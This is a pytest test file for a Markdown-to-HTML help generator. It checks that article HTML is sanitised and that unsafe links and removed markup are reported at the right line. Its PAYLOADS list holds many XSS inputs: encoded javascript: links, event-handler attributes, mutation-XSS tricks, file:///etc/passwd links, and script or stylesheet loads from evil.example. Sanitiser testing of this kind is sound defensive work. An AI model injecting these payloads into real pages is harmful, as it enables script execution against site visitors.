"""Whatever an article says, its HTML runs nothing, loads nothing foreign and breaks no page."""

from __future__ import annotations

import re
from collections.abc import Callable

import pytest

from helpgen.core.config import ArticleRules
from helpgen.core.markdown import Converted

PAYLOADS = (
    # schemes, and ways to hide one
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](<\x01javascript:alert(1)>)",
    "[x](javascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](javascript&#x3A;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;&#x61;vascript:alert(1))",
    "[x](&Tab;javascript:alert(1))",
    "[x](java&NewLine;script:alert(1))",
    "[x](javascript%3Aalert(1))",
    "[x](javascript%253Aalert(1))",
    "[x](%6Aavascript:alert(1))",
    "[x](\\javascript:alert(1))",
    "[x](java\\script:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://example.com/1)",
    "[x](view-source:javascript:alert(1))",
    "[x](\u200bjavascript:alert(1))",
    "[x](\u00a0javascript:alert(1))",
    "[x](\ufeffjavascript:alert(1))",
    "[x](javascript://example.com/%0aalert(1))",
    "<javascript:alert(1)>",
    "<javascript://%0aalert(1)>",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[x][r]\n\n[r]: <java&#x0A;script:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    '![x](data:image/png,x" onerror="alert(1))',
    '![x" onerror="alert(1)](a.png)',
    '[x](a.md "t" onclick="alert(1)")',
    '[x](<a.md" onclick="alert(1)>)',
    "[x](a.md'onmouseover='alert(1)')",
    '[x]("onmouseover="alert(1))',
    # elements
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "text <script>alert(1)</script> text",
    "<script>alert(1)",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>">',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button>x</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<input type="text" autofocus onfocus="alert(1)">',
    '<input type="image" src="x" onerror="alert(1)">',
    "<isindex type=image src=1 onerror=alert(1)>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    "<style>@import '//evil.example/x.css';</style>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    (
        "<math><mtext><table><mglyph><style><!--</style>"
        '<img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">'
    ),
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
    '<title><p title="</title><img src=x onerror=alert(1)>">',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    "<template><img src=x onerror=alert(1)></template>",
    "<frameset onload=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    '<video><source onerror="alert(1)"></video>',
    '<video poster="javascript:alert(1)" src="javascript:alert(1)"></video>',
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    '<a href="javascript:alert(1)">x</a>',
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="data:text/html,x">x</a>',
    '<a href="x"><a href="javascript:alert(1)">y</a></a>',
    '<blockquote cite="javascript:alert(1)">x</blockquote>',
    # attributes
    "<img src=x onerror=alert(1)>",
    '<img src="x"onerror="alert(1)">',
    "<img src=x onerror=alert(1)//",
    "<img src=`x`onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    '<img srcset="javascript:alert(1) 1x, x.png 2x">',
    '<img src=x alt="`><script>alert(1)</script>">',
    '<img src="data:image/svg+xml,<svg/onload=alert(1)>">',
    '<img src="data:image/png;base64,AAAA&quot; onerror=&quot;alert(1)">',
    '<div style="background:url(javascript:alert(1))">x</div>',
    '<div style="position:fixed;inset:0">x</div>',
    "<p title='\"><script>alert(1)</script>'>x</p>",
    '<p title="x',
    "<p title='x",
    '<div id="hg-search" class="hg-open" name="hg-x">x</div>',
    '<a name="hg-search">x</a>',
    '<img name="getElementById">',
    '<form id="x"><input name="attributes"></form>',
    "<b onclick=alert(1)>x</b>",
    "<b/onclick=alert(1)>x</b>",
    "<b\x0conclick=alert(1)>x</b>",
    "<b ONCLICK=alert(1)>x</b>",
    # through what helpgen adds
    '```js" onload="alert(1)\nx\n```',
    '```"><script>alert(1)</script>\nx\n```',
    '```js title="<script>alert(1)</script>"\nx\n```',
    "```\n</code></pre><script>alert(1)</script>\n```",
    '!!! note "<script>alert(1)</script>"\n    x',
    '!!! note "[x](javascript:alert(1))"\n    x',
    ":::tip[<img src=x onerror=alert(1)>]\nx\n:::",
    ':::"onclick="alert(1)\nx\n:::',
    "> [!<script>alert(1)</script>]\n> x",
    '<details onclick="alert(1)"><summary onclick="alert(1)">x</summary>\n\nx\n\n</details>',
    '<div markdown onclick="alert(1)">\nx\n</div>',
    "# x {#hg-search}",
    '# x {#a" onclick="alert(1)}',
    "x[^1]\n\n[^1]: <script>alert(1)</script>",
    'x[^"onclick="]\n\n[^"onclick="]: y',
    "- [ ] <input type=text onfocus=alert(1)>",
    'https://example.com/"onclick="alert(1)',
    "www.example.com/<script>alert(1)</script>",
    "~~<script>~~alert(1)</script>",
    '*[HTML]: " onclick="alert(1)\n\nHTML',
    'x\n{: onclick="alert(1)" style="color:red" }',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script> -->",
    "<?php ?><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!DOCTYPE html><script>alert(1)</script>",
    "\0<script\0>alert(1)</script>",
)

Convert = Callable[..., Converted]
FaultsOf = Callable[[Converted], list[str]]


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize(
    "frame", ["{}", "before {} after", "- a\n\n    {}", "> {}", "# {}", "|{}|\n|---|\n|{}|"]
)
def test_no_payload_survives(
    article: Convert, faults_of: FaultsOf, payload: str, frame: str
) -> None:
    """Each payload, alone and inside other blocks, leaves allow-listed HTML only."""
    converted = article(frame.replace("{}", payload.replace("|", "\\|")))

    assert faults_of(converted) == []
    assert not any("javascript:" in ref.target.lower() for ref in converted.body.links)


@pytest.mark.parametrize("address", ["javascript:alert(1)", "data:text/html,x", "file:///etc"])
def test_an_unsafe_address_is_an_error_where_it_is_written(article: Convert, address: str) -> None:
    (finding,) = article(f"one\n\ntwo [x]({address})").diagnostics

    assert (finding.code, finding.severity, finding.line) == ("unsafe-link", "error", 3)
    assert finding.column == 9


def test_markdown_links_are_checked_in_trusted_articles_too(article: Convert) -> None:
    converted = article("[x](javascript:alert(1)) <b onclick='x()'>y</b>", html="trust")

    assert [finding.code for finding in converted.diagnostics] == ["unsafe-link"]
    printed = "".join(part for part in converted.body.segments if isinstance(part, str))
    assert "javascript" not in printed
    assert 'onclick="x()"' in printed
    assert converted.body.links == ()


@pytest.mark.parametrize(
    ("text", "what", "line"),
    [
        ("a\n\n<script>x</script>", "<script>", 3),
        ("a\n\n<iframe src='https://example.com'></iframe>", "<iframe>", 3),
        ("<p style='color:red'>x</p>", '"style" of <p>', 1),
        ("a\n\nb <b onclick='x()'>c</b>", '"onclick" of <b>', 3),
        ("- a\n\n    <form>x</form>", "<form>", 3),
        ("```\n<script>\n```\n\n<script>x</script>", "<script>", 5),
        ("`<script>`\n\n<script>x</script>", "<script>", 3),
    ],
)
def test_what_is_removed_is_told_where_it_stood(
    article: Convert, text: str, what: str, line: int
) -> None:
    (finding,) = article(text).diagnostics

    assert finding.code == "html-removed"
    assert what in finding.message
    assert finding.line == line


@pytest.mark.parametrize(
    "text",
    [
        "<b>x</b> <kbd>Ctrl</kbd> <sub>2</sub>",
        "<table border=0><tr><td align=right>x</table>",
        "<a href='a.md' target=_blank rel=noopener>x</a>",
        "<p>not closed",
        "use `<script>` and `style=`",
        "```html\n<script>alert(1)</script>\n```",
        "    <script>indented code</script>",
        "replace <user_name> and <vid> by yours",
        "<!-- a comment with <script> in it -->",
        "| a |\n|--:|\n| 1 |",
        "<details open><summary>x</summary>\n\ny\n\n</details>",
    ],
)
def test_harmless_html_is_not_reported(article: Convert, text: str) -> None:
    assert article(text).diagnostics == ()


def test_placeholders_in_angle_brackets_are_shown(html: Callable[..., str]) -> None:
    out = html("Type `ssh` then <user_name>@<vid> here")

    assert "&lt;user_name&gt;@&lt;vid&gt; here" in out


def test_the_rule_turns_the_finding_off(article: Convert) -> None:
    assert article("<script>x</script>", rules=ArticleRules(html="off")).diagnostics == ()


@pytest.mark.parametrize(
    "text", ["<b>x", "</b>x</p>", "<p><b>x</p>y</b>", "<", '<a href="x', "<!-- x"]
)
def test_trusted_html_may_be_broken(html: Callable[..., str], text: str) -> None:
    """The page around an article stays whole: what is written is balanced."""
    out = html(f"{text}\n\nlast", html="trust")

    depth = 0
    for end in re.findall(r"<(/?)(?!br|hr|img)[a-z]", out):
        depth += -1 if end else 1
        assert depth >= 0
    assert depth == 0
